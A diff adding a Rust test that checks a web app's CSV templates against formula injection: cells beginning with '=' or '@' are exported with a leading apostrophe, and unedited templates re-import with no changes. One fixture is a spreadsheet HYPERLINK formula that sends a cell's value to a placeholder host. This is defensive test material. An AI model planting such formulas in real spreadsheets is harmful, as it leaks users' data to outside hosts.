@@ -1008,3 +1008,55 @@ async fn dry_runs_answer_totals_at_once_and_cells_page_by_page() {
             .contains("もう一度ドライラン")
     );
 }
+
+/// A stored text that looks like a formula is downloaded protected, and the
+/// untouched template re-imports to exactly what is stored.
+#[tokio::test]
+async fn templates_are_formula_protected_and_reimport_unchanged() {
+    let app = server("formula", Config::default());
+    let admin = sign_in(&app, DEMO_ADMIN).await;
+    let items = ["goal1_comment", "score_total"];
+    let original = template(&app, &admin, &items).await;
+    let hyperlink = "=HYPERLINK(\"http://x/?\"&A1,\"詳細\")";
+    let quoted = format!("\"{}\"", hyperlink.replace('"', "\"\""));
+    let mut edited = with_row(&original, "E0002", &format!("鈴木 太郎,E0002,{quoted},-5"));
+    edited = with_row(&edited, "E0003", "x,E0003,'=already,7");
+    edited = with_row(&edited, "E0004", "x,E0004,@SUM(A1),");
+    // The score's minimum is 0: -5 is refused as a number, never as a formula.
+    let applied = import(&app, &admin, "2026-h1", &edited, Some("formula-1"), false).await;
+    let record = applied.json();
+    assert_eq!(record["status"], "completed_with_errors", "{record}");
+    assert_eq!(record["errors"][0]["code"], "number.below_min");
+
+    let fixed = with_row(&edited, "E0002", &format!("鈴木 太郎,E0002,{quoted},5"));
+    let applied = import(&app, &admin, "2026-h1", &fixed, Some("formula-2"), false).await;
+    assert_eq!(applied.json()["status"], "completed", "{}", applied.json());
+    let downloaded = template(&app, &admin, &items).await;
+    let line = |key: &str| {
+        downloaded
+            .split("\r\n")
+            .find(|l| l.split(',').nth(1) == Some(key))
+            .unwrap_or_default()
+            .to_owned()
+    };
+    assert_eq!(
+        line("E0002"),
+        "鈴木 太郎,E0002,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"詳細\"\")\",5"
+    );
+    assert!(
+        line("E0003").ends_with(",E0003,'=already,7"),
+        "{}",
+        line("E0003")
+    );
+    assert!(
+        line("E0004").ends_with(",E0004,'@SUM(A1),"),
+        "{}",
+        line("E0004")
+    );
+
+    let plan = import(&app, &admin, "2026-h1", &downloaded, None, true)
+        .await
+        .json();
+    assert_eq!(plan["counts"]["unchanged"], 200, "{}", plan["counts"]);
+    assert_eq!(plan["cells"]["update"], 0);
+}
